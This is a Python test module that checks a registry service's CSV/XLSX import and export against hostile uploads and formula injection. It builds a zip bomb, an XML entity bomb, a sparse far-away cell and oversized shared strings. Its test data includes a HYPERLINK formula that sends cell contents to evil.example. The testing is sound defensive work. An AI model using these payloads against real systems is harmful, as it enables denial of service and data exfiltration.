"""Files an outside tester (or a hostile unit) would send: each is refused or handled
with a clear problem+json, and the process stays alive to serve the next request.

Every file is built by the test (here, or in ``tests.support.sheets``), none is
stored. On the code before issue 15, the sparse far cell aborted the whole process
(calamine asked for 549 GB), the others were either read in full (zip bomb: 27 s and
1.6 GB) or refused only after parsing everything.
"""

from __future__ import annotations

import asyncio
import csv
import io
import zipfile
from collections.abc import AsyncIterator

import httpx
import pytest
from openpyxl import load_workbook

from services.registry import imports
from services.registry.imports import HEAVY
from services.registry.spreadsheets import COLUMNS, MAX_ROWS, XLSX_MEDIA_TYPE
from tests.registry.conftest import (
    Actors,
    create_system,
    fresh_registry,
    make_unit,
)
from tests.registry.test_import_export import (
    EXPORT,
    HEADER,
    IMPORT,
    csv_file,
    errors_of,
    listed,
    row,
    upload,
    xlsx_file,
)
from tests.support.checks import problem
from tests.support.databases import Databases
from tests.support.fixtures import Stack, TokenFactory, auth
from tests.support.sheets import sheet_with_cell_at

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def with_sheet_xml(xml_chunks: list[bytes]) -> bytes:
    """A real workbook whose first sheet's XML is replaced by ``xml_chunks``."""
    base = zipfile.ZipFile(io.BytesIO(xlsx_file([])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        for info in base.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with book.open(info.filename, "w", force_zip64=True) as member:
                    for chunk in xml_chunks:
                        member.write(chunk)
            else:
                book.writestr(info, base.read(info.filename))
    return out.getvalue()


async def still_serving(client: httpx.AsyncClient, actors: Actors) -> None:
    """The process is alive and imports a good file after the hostile one."""
    response = await upload(client, actors.a, csv_file([row(actors.unit_a)]))
    assert response.status_code == 201, response.text


# --- size: refused before anything is built -------------------------------------------


@pytest.mark.parametrize(
    ("ref", "code"),
    [
        ("XFD1048576", "too_many_columns"),  # aborted the process (549 GB grid)
        ("M1000000", "too_many_rows"),  # like Z1000000: 9.5 s and 1.5 GB
        (f"A{MAX_ROWS + 2}", "too_many_rows"),  # one row past the header + 100,000
        ("AZ1", "too_many_columns"),
    ],
)
async def test_a_sparse_cell_far_away_is_refused_before_the_grid_is_built(
    client: httpx.AsyncClient, actors: Actors, ref: str, code: str
) -> None:
    data = sheet_with_cell_at(ref)
    assert len(data) < 10_000
    body = problem(await upload(client, actors.a, data, kind="xlsx"), 413, code)
    assert body["message_zh"]
    await still_serving(client, actors)


async def test_a_declared_dimension_beyond_a_catalogue_is_refused(
    client: httpx.AsyncClient, actors: Actors
) -> None:
    xml = (
        f'<worksheet xmlns="{MAIN}"><dimension ref="A1:XFD1048576"/>'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>org</t></is></c></row>'
        "</sheetData></worksheet>"
    ).encode()
    response = await upload(client, actors.a, with_sheet_xml([xml]), kind="xlsx")
    problem(response, 413, "too_many_columns")


async def test_a_zip_bomb_is_refused_by_what_it_inflates_to(
    client: httpx.AsyncClient, actors: Actors
) -> None:
    # 330 MiB of sheet XML in a zip of about 1/3 MiB (the tester's was 1.26 MB / 331 MB).
    head = f'<worksheet xmlns="{MAIN}"><sheetData>'.encode()
    blank = b" " * (1 << 20)
    data = with_sheet_xml([head, *([blank] * 330), b"</sheetData></worksheet>"])
    assert len(data) < 2 << 20
    body = problem(await upload(client, actors.a, data, kind="xlsx"), 413, "archive_too_large")
    assert body["message_zh"]
    # 40 MiB: under the total bound, but 1000x its compressed size.
    data = with_sheet_xml([head, *([blank] * 40), b"</sheetData></worksheet>"])
    problem(await upload(client, actors.a, data, kind="xlsx"), 413, "archive_too_large")
    await still_serving(client, actors)


async def test_huge_shared_strings_are_refused(client: httpx.AsyncClient, actors: Actors) -> None:
    count = 2_000_001
    strings = b"".join(b"<si><t>%d</t></si>" % i for i in range(count))
    shared = f'<sst xmlns="{MAIN}" count="{count}">'.encode() + strings + b"</sst>"
    base = zipfile.ZipFile(io.BytesIO(xlsx_file([])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        for info in base.infolist():
            data = base.read(info.filename)
            if info.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdSST" Target="sharedStrings.xml" Type="http://'
                    b"schemas.openxmlformats.org/officeDocument/2006/relationships/"
                    b'sharedStrings"/></Relationships>',
                )
            book.writestr(info, data)
        book.writestr("xl/sharedStrings.xml", shared)
    response = await upload(client, actors.a, out.getvalue(), kind="xlsx")
    problem(response, 413, "shared_strings_too_large")
    await still_serving(client, actors)


async def test_one_cell_longer_than_any_catalogue_text_is_refused(
    client: httpx.AsyncClient, actors: Actors
) -> None:
    rows = [row(actors.unit_a, name="长" * 40_000)]
    problem(await upload(client, actors.a, xlsx_file(rows), kind="xlsx"), 413, "cell_too_long")


async def test_an_xml_entity_bomb_is_refused(client: httpx.AsyncClient, actors: Actors) -> None:
    entities = "".join(f'<!ENTITY e{i} "&e{i - 1};&e{i - 1};">' for i in range(1, 30))
    xml = (
        f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY e0 "lol">{entities}]>'
        f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr">'
        "<is><t>&e29;</t></is></c></row></sheetData></worksheet>"
    ).encode()
    response = await upload(client, actors.a, with_sheet_xml([xml]), kind="xlsx")
    assert errors_of(response) == [(1, "")]
    assert "DTD" in response.json()["errors"][0]["message"]
    await still_serving(client, actors)


async def test_a_file_over_100000_rows_is_refused_with_a_stable_code(
    client: httpx.AsyncClient, actors: Actors
) -> None:
    data = ("org,name,status,network,cloud\r\n" + "a,b,c,d,e\r\n" * (MAX_ROWS + 1)).encode()
    body = problem(await upload(client, actors.a, data), 413, "too_many_rows")
    assert body["limit_rows"] == MAX_ROWS and body["message_zh"]
    await still_serving(client, actors)


# --- encodings and digits ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "bom", "read"),
    [
        ("gb18030", False, "gb18030"),
        ("gbk", False, "gb18030"),
        ("utf-16-le", True, "utf-16-le"),
        ("utf-16-be", True, "utf-16-be"),
        ("utf-8", True, "utf-8"),
    ],
)
async def test_gbk_and_utf16_csv_files_are_read_and_the_encoding_is_reported(
    client: httpx.AsyncClient, actors: Actors, encoding: str, bom: bool, read: str
) -> None:
    rows = [row(actors.unit_a, name="防汛抗旱指挥系统", cloud_exempt_reason="")]
    data = csv_file(rows, bom=bom, encoding=encoding)
    response = await upload(client, actors.a, data)
    assert response.status_code == 201, response.text
    assert response.json()["encoding"] == read
    [system] = await listed(client, actors.a)
    assert system["name"] == "防汛抗旱指挥系统"


async def test_bytes_that_are_no_known_text_are_refused_in_both_languages(
    client: httpx.AsyncClient, actors: Actors
) -> None:
    data = csv_file([row(actors.unit_a)]) + b"\x81\x30\xff\xfe\x00"
    response = await upload(client, actors.a, data)
    assert errors_of(response) == [(1, "")]
    error = response.json()["errors"][0]
    assert "UTF-8" in error["message"] and "编码" in error["message_zh"]


@pytest.mark.parametrize("level", ["٣", "３", "3.0", "1_0", " 2x"])
async def test_a_number_cell_takes_ascii_digits_only(
    client: httpx.AsyncClient, actors: Actors, level: str
) -> None:
    response = await upload(client, actors.a, csv_file([row(actors.unit_a, mlps_level=level)]))
    assert errors_of(response) == [(2, "mlps_level")]
    assert response.json()["errors"][0]["message_zh"].startswith("应为 1-5 的整数")


# --- formula injection --------------------------------------------------------------------

FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?"&C500,"open")',
    "+86 热线系统",
    "-1 号系统",
    "@SUM(A1)",
    "＝1+1 全角",
    "＋全角加号",
    "－全角减号",
    "＠全角",
    "'单引号开头",
    "''两个单引号",
    "#N/A",
    "普通系统",
]


async def formula_catalogue(client: httpx.AsyncClient, actors: Actors) -> list[dict[str, object]]:
    return [
        await create_system(client, actors.a, actors.unit_a, name=name) for name in FORMULA_NAMES
    ]


async def test_a_csv_export_neutralises_text_a_spreadsheet_would_evaluate(
    client: httpx.AsyncClient, actors: Actors
) -> None:
    await formula_catalogue(client, actors)
    exported = await client.get(EXPORT, params={"format": "csv"}, headers=actors.a)
    table = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    names = sorted(r[COLUMNS.index("name")] for r in table[1:])
    for name in names:
        assert not name.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), name
    assert '\'=HYPERLINK("http://evil.example/?"&C500,"open")' in names
    assert "''单引号开头" in names and "'''两个单引号" in names
    assert "普通系统" in names and "#N/A" in names


async def test_an_xlsx_export_writes_text_cells_never_formulas(
    client: httpx.AsyncClient, actors: Actors
) -> None:
    await formula_catalogue(client, actors)
    exported = await client.get(EXPORT, params={"format": "xlsx"}, headers=actors.a)
    sheet = zipfile.ZipFile(io.BytesIO(exported.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet and b't="e"' not in sheet
    book = load_workbook(io.BytesIO(exported.content), read_only=True)
    names = [r[COLUMNS.index("name")] for r in book.worksheets[0].iter_rows(min_row=2)]
    assert {cell.data_type for cell in names} == {"s"}
    assert {cell.value for cell in names} == set(FORMULA_NAMES)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
async def test_formula_like_names_round_trip_unchanged(
    client: httpx.AsyncClient, actors: Actors, kind: str
) -> None:
    made = await formula_catalogue(client, actors)
    exported = await client.get(EXPORT, params={"format": kind}, headers=actors.a)
    response = await upload(client, actors.a, exported.content, kind=kind, multipart=True)
    assert response.status_code == 201, response.text
    assert response.json()["unchanged"] == len(FORMULA_NAMES)
    for system in made:
        after = await client.get(f"/api/v1/systems/{system['id']}", headers=actors.a)
        assert after.json() == system


async def test_a_hand_typed_apostrophe_escape_reads_as_the_text_after_it(
    client: httpx.AsyncClient, actors: Actors
) -> None:
    rows = [row(actors.unit_a, name="'=1+1"), row(actors.unit_a, name="''引号")]
    assert (await upload(client, actors.a, csv_file(rows))).status_code == 201
    assert sorted(s["name"] for s in await listed(client, actors.a)) == ["'引号", "=1+1"]


# --- heavy work off the event loop ------------------------------------------------------


class HeldBody:
    """A request body that tells when it has been read to the end, or waits to end."""

    def __init__(self, data: bytes, hold: asyncio.Event | None = None) -> None:
        self.data = data
        self.hold = hold
        self.read = asyncio.Event()

    async def __aiter__(self) -> AsyncIterator[bytes]:
        for start in range(0, len(self.data), 1 << 16):
            yield self.data[start : start + (1 << 16)]
        if self.hold is not None:
            await self.hold.wait()
        self.read.set()


async def test_a_heavy_import_does_not_stall_a_concurrent_small_request(
    stack: Stack, databases: Databases, token: TokenFactory
) -> None:
    j = "linfen-water"
    admin = auth(token(roles=["admin"], jurisdiction=j))
    async with fresh_registry(stack, databases, outbox_relay_enabled=False) as (_, client):
        unit = await make_unit(client, admin, "临汾市水利局", j)
        headers = auth(token(roles=["unit"], org=unit, jurisdiction=j))
        system = await create_system(client, headers, unit)
        # 40,000 rows, each refused at the end (status "live"): all CPU, no database.
        body = HeldBody(csv_file([row(unit, status="live")] * 40_000))
        heavy = asyncio.create_task(
            client.post(IMPORT, content=body, headers={**headers, "Content-Type": "text/csv"})
        )
        await body.read.wait()  # the import now has its whole file and is parsing it
        small = await client.get(f"/api/v1/systems/{system['id']}", headers=headers)
        assert small.status_code == 200
        assert not heavy.done(), "the small request finished while the import still ran"
        body_errors = problem(await heavy, 422, "import_invalid")
        assert body_errors["error_count"] == 40_000


async def test_a_caller_holds_two_heavy_calls_at_most(
    stack: Stack, databases: Databases, token: TokenFactory
) -> None:
    j = "linfen-water"
    admin = auth(token(roles=["admin"], jurisdiction=j))
    async with fresh_registry(stack, databases, outbox_relay_enabled=False) as (_, client):
        unit = await make_unit(client, admin, "临汾市水利局", j)
        headers = {
            **auth(token(roles=["unit"], org=unit, jurisdiction=j)),
            "Content-Type": "text/csv",
        }
        hold = asyncio.Event()
        bodies = [HeldBody(csv_file([row(unit, name=f"系统{i}")]), hold) for i in range(2)]
        running = [
            asyncio.create_task(client.post(IMPORT, content=b, headers=headers)) for b in bodies
        ]
        try:
            for _ in range(200):  # until both hold their slot (they wait on their bodies)
                if HEAVY._held.total() >= 2:
                    break
                await asyncio.sleep(0.01)
            third = await client.post(IMPORT, content=csv_file([row(unit)]), headers=headers)
            body = problem(third, 429, "too_many_heavy_requests")
            assert third.headers["Retry-After"].isdigit() and body["message_zh"]
            export = await client.get(EXPORT, headers=headers)
            problem(export, 429, "too_many_heavy_requests")
        finally:
            hold.set()
        assert [(await r).status_code for r in running] == [201, 201]
        after = await client.post(IMPORT, content=csv_file([row(unit)]), headers=headers)
        assert after.status_code == 201, after.text


async def test_an_export_streams_a_file_of_every_row(
    client: httpx.AsyncClient, actors: Actors
) -> None:
    rows = [row(actors.unit_a, name=f"系统{i:04d}") for i in range(1200)]
    assert (await upload(client, actors.a, csv_file(rows))).status_code == 201
    for kind in ("csv", "xlsx"):
        exported = await client.get(EXPORT, params={"format": kind}, headers=actors.a)
        assert exported.status_code == 200
        assert "content-length" not in exported.headers  # streamed, not built in memory
        if kind == "xlsx":
            assert exported.headers["content-type"] == XLSX_MEDIA_TYPE
            book = load_workbook(io.BytesIO(exported.content), read_only=True)
            assert len(list(book.worksheets[0].iter_rows())) == 1201
        else:
            assert len(exported.content.decode("utf-8-sig").splitlines()) == 1201
    assert HEADER == [c for c in COLUMNS if c != "id"]


async def test_a_retried_import_with_its_idempotency_key_never_imports_twice(
    client: httpx.AsyncClient, actors: Actors
) -> None:
    data = csv_file([row(actors.unit_a, name=f"系统{i}") for i in range(3)])
    headers = {**actors.a, "Content-Type": "text/csv", "Idempotency-Key": "import-2026-11-25"}
    first = await client.post(IMPORT, content=data, headers=headers)
    again = await client.post(IMPORT, content=data, headers=headers)
    assert first.status_code == again.status_code == 201, again.text
    assert again.headers["Idempotent-Replayed"] == "true"
    assert again.json() == first.json()
    assert len(await listed(client, actors.a)) == 3


async def test_an_import_past_its_deadline_rolls_back_and_says_so(
    stack: Stack, databases: Databases, token: TokenFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The gateway gives up at 120 s; the registry must give up first and store nothing,
    # never commit after its caller was told it failed. A tiny deadline stands in here.
    j = "linfen-water"
    admin = auth(token(roles=["admin"], jurisdiction=j))
    async with fresh_registry(stack, databases, outbox_relay_enabled=False) as (_, client):
        unit = await make_unit(client, admin, "临汾市水利局", j)
        headers = auth(token(roles=["unit"], org=unit, jurisdiction=j))
        monkeypatch.setattr(imports, "IMPORT_DEADLINE_SECONDS", 0.01)
        data = csv_file([row(unit, name=f"系统{i}") for i in range(5000)])
        late = await upload(client, headers, data)
        body = problem(late, 503, "import_deadline_exceeded")
        assert late.headers["Retry-After"].isdigit() and body["message_zh"]
        assert await listed(client, headers) == []
        monkeypatch.setattr(imports, "IMPORT_DEADLINE_SECONDS", 90.0)
        assert (await upload(client, headers, data)).status_code == 201
        assert len(await listed(client, headers)) == 500  # the first page: stored now
